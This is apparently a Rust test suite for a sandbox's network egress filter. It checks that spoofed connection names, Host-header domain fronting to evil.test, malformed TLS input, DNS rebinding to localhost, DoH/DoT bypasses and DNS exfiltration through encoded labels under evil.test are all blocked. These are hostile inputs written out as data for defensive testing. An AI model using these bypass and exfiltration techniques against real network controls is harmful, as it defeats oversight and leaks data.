//! Attacks 74 to 83: what a connection says it is for, and the resolver.

use super::*;

/// Attacks 80 to 83: what a connection says it is for.
pub(crate) fn names(w: &World) -> anyhow::Result<()> {
    let outside = outside(w)?;
    make(w, "net-name", json!({"allow": ["api.test", "site.test", "*.a.test"]}))?;
    let code = |args: &str| status(w, "net-name", &format!("-k {args}"));
    // The controls.
    ensure!(code("https://api.test/")? == "200" && code("https://deep.a.test/")? == "200");
    ensure!(code("https://site.test/")? == "200" && code("http://api.test/")? == "200");
    ensure!(
        code(&format!("--connect-to api.test:443:{OTHER}:443 https://api.test/"))? == "200",
        "an address is not trusted, a name is"
    );
    let served = outside.requests();
    ensure!(served.len() == 5 && served.iter().all(|request| request.host != "other.test"), "{served:?}");
    // Names that are not allowed, at addresses that are.
    for args in [
        format!("--connect-to other.test:443:{API}:443 https://other.test/"),
        format!("--connect-to evil.test:443:{CDN}:443 https://evil.test/"),
        format!("--connect-to evil-api.test:443:{API}:443 https://evil-api.test/"),
        format!("--connect-to api.test.evil.test:443:{API}:443 https://api.test.evil.test/"),
        format!("--connect-to a.test:443:{API}:443 https://a.test/"),
        format!("https://{API}/"),
    ] {
        let said = code(&args)?;
        ensure!(
            said.contains("exit 35") || said.contains("exit 56") || said.contains("exit 7"),
            "{args}: {said}"
        );
    }
    for args in [
        format!("--connect-to other.test:80:{API}:80 http://other.test/"),
        format!("--connect-to api.test:80:{API}:80 -H 'Host: other.test' http://api.test/"),
        format!("http://{API}/"),
    ] {
        ensure!(code(&args)? == "403", "{args}: {}", code(&args)?);
    }
    // Upper case and a dot at the end are the same name.
    ensure!(code("https://API.test/")? == "200" && code("https://api.test./")? == "200");
    // No TLS, no name, nonsense: nothing gets out.
    for bytes in [
        "b'SSH-2.0-x\\r\\n'",
        "b'\\x16\\x03\\x01\\xff\\xff' + b'x' * 20000",
        "b'\\x16\\x03\\x01\\x00\\x05\\x01\\x00\\x00\\x01\\x00'",
    ] {
        let script = format!(
            "import socket
s = socket.create_connection(('api.test', 443), 5); s.settimeout(20)
try:
    s.sendall({bytes}); s.shutdown(socket.SHUT_WR); print(s.recv(100))
except OSError: print('reset')"
        );
        let said = python(w, "net-name", &script)?;
        ensure!(said == "reset" || said == "b''" || said.contains("\\x15\\x03"), "{said}");
    }
    let served = outside.requests();
    ensure!(
        served.iter().all(|request| request.host.trim_end_matches('.').eq_ignore_ascii_case("api.test")),
        "{served:?}"
    );
    // Fronting: spliced it is passed on (documented); where TLS ends here it is not.
    ensure!(code("-H 'Host: evil.test' https://site.test/")? == "200", "the documented limit of splicing");
    let run = w.run("net-name")?;
    let ruled = json!({"allow": {"api.test": [], "site.test": [{"transform": [{"headers": {"authorization": "Bearer s3cret-s3cret"}}]}]}});
    set_policy(w, &run, ruled)?;
    outside.requests();
    ensure!(code("https://site.test/")? == "200");
    for version in ["--http1.1", "--http2"] {
        ensure!(code(&format!("{version} -H 'Host: evil.test' https://site.test/"))? == "421");
    }
    let served = outside.requests();
    ensure!(served.len() == 1 && served[0].host == "site.test", "{served:?}");
    ensure!(served[0].header("authorization") == "Bearer s3cret-s3cret");
    w.delete("net-name")
}

/// Attacks 74 to 78: the resolver.
pub(crate) fn resolver(w: &World) -> anyhow::Result<()> {
    let outside = outside(w)?;
    make(
        w,
        "net-dns",
        json!({"allow": ["api.test", "alias.test", "big.test", "rebind.test", "private.test", "*.wild.test"]}),
    )?;
    make(w, "net-dns-all", json!({"mode": "allow-all"}))?;
    make(w, "net-dns-none", json!({"mode": "deny-all"}))?;
    let ask = std::fs::read_to_string(inside("ask.py"))?;
    let answer =
        |name: &str, server: &str, transport: &str, question: &str, kind: &str| -> anyhow::Result<Value> {
            let (code, out, err) =
                w.exec(name, &[], &["python3", "-c", &ask, server, transport, question, kind])?;
            ensure!(code == 0, "{out}{err}");
            Ok(serde_json::from_str(&out)?)
        };
    // Whoever is asked, the same answers, over UDP and TCP.
    let trapped = outside.trapped();
    for server in ["8.8.8.8", "1.1.1.1", "198.51.100.53", "198.51.100.66"] {
        for transport in ["udp", "tcp"] {
            let said = answer("net-dns", server, transport, "api.test", "A")?;
            ensure!(
                said["code"] == 0 && said["answers"] == json!([API.to_string()]),
                "{server} {transport}: {said}"
            );
            let said = answer("net-dns", server, transport, "other.test", "A")?;
            ensure!(said["code"] == 5 && said["answers"] == json!([]), "{server} {transport}: {said}");
            ensure!(said["why"].as_str().is_some_and(|why| why.contains("does not allow")), "{said}");
        }
    }
    ensure!(outside.trapped() == trapped, "a question reached the server that it named");
    // IPv6 is empty at once, encrypted names are not told of, the rest refused.
    ensure!(answer("net-dns", "8.8.8.8", "udp", "api.test", "AAAA")?["answers"] == json!([]));
    let said = answer("net-dns-all", "8.8.8.8", "udp", "api.test", "HTTPS")?;
    ensure!(said["code"] == 0 && said["answers"] == json!([]), "{said}");
    ensure!(answer("net-dns", "8.8.8.8", "udp", "api.test", "TXT")?["code"] == 5);
    ensure!(answer("net-dns-all", "8.8.8.8", "udp", "api.test", "TXT")?["answers"] == json!(["text"]));
    ensure!(answer("net-dns-all", "8.8.8.8", "udp", "no-such.test", "A")?["code"] == 3);
    // An alias is judged by the name that is asked for; what it leads to is not allowed by
    // itself.
    ensure!(answer("net-dns", "8.8.8.8", "udp", "alias.test", "A")?["answers"] == json!([CDN.to_string()]));
    ensure!(answer("net-dns", "8.8.8.8", "udp", "evil.test", "A")?["code"] == 5);
    // Too long for a datagram: over TCP it is whole.
    let said = answer("net-dns", "8.8.8.8", "udp", "big.test", "A")?;
    ensure!(said["truncated"] == true, "{said}");
    let said = answer("net-dns", "8.8.8.8", "tcp", "big.test", "A")?;
    ensure!(said["answers"].as_array().is_some_and(|answers| answers.len() == 99), "{said}");
    // Private results lead nowhere, at first or later.
    for name in ["private.test", "loopback.test", "metadata.test", "denied.test"] {
        let said = answer("net-dns-all", "8.8.8.8", "udp", name, "A")?;
        ensure!(said["code"] == 5 && said["answers"] == json!([]), "{name}: {said}");
    }
    ensure!(
        status(w, "net-dns-all", "--resolve private.test:80:198.51.100.10 http://private.test/")? == "200",
        "the control: a name is only a name there"
    );
    ensure!(
        status(w, "net-dns", "--resolve private.test:80:198.51.100.10 http://private.test/")? == "502"
            || status(w, "net-dns", "--resolve private.test:80:198.51.100.10 http://private.test/")? == "403"
    );
    ensure!(status(w, "net-dns", "http://rebind.test/")? == "200", "public at first");
    // From now on the name is this host, where somebody listens; an answer is kept for a
    // second.
    std::thread::sleep(Duration::from_millis(1500));
    let here = std::net::TcpListener::bind(("127.0.0.1", 80))?;
    here.set_nonblocking(true)?;
    for _ in 0..3 {
        let pinned = status(w, "net-dns", &format!("--resolve rebind.test:80:{API} http://rebind.test/"))?;
        ensure!(["200", "403"].contains(&pinned.as_str()), "{pinned}");
        let anew = status(w, "net-dns", "http://rebind.test/")?;
        ensure!(anew.contains("exit 6"), "{anew} {:?}", outside.questions());
    }
    ensure!(here.accept().is_err(), "the name led to this host");
    // Nothing is asked outside for who may not ask (attack 75).
    outside.questions();
    for name in ["net-dns", "net-dns-none"] {
        for label in 0..20 {
            let said = answer(name, "8.8.8.8", "udp", &format!("mzxw6ytb{label}.evil.test"), "A")?;
            ensure!(said["code"] == 5, "{said}");
        }
    }
    ensure!(outside.questions().is_empty(), "data left in names");
    // Made-up names below an allowed one are counted, and bounded.
    let many = "import socket, sys
n = 0
for i in range(1500):
    try: socket.getaddrinfo('n%d.wild.test' % i, 80, socket.AF_INET); n += 1
    except OSError: pass
print(n)";
    let resolved: u32 = python(w, "net-dns", many)?.parse()?;
    ensure!((500..1500).contains(&resolved), "{resolved} of 1,500 made-up names were resolved");
    // Other ways to a resolver.
    let tcp = |host: &str, port: u16| ("tcp", host.to_owned(), port);
    refused(w, "net-dns", &[tcp("8.8.8.8", 853), tcp(&HONEYPOT.to_string(), 853)], &["EHOSTUNREACH"])?;
    ensure!(status(w, "net-dns", "-k https://dns.google/dns-query")?.contains("exit 6"));
    let udp = |host: &str, port: u16| ("udp", host.to_owned(), port);
    refused(w, "net-dns", &[udp("224.0.0.252", 5355)], &["EHOSTUNREACH", "ENETUNREACH", "sent"])?;
    for name in ["net-dns", "net-dns-all", "net-dns-none"] {
        w.delete(name)?;
    }
    Ok(())
}
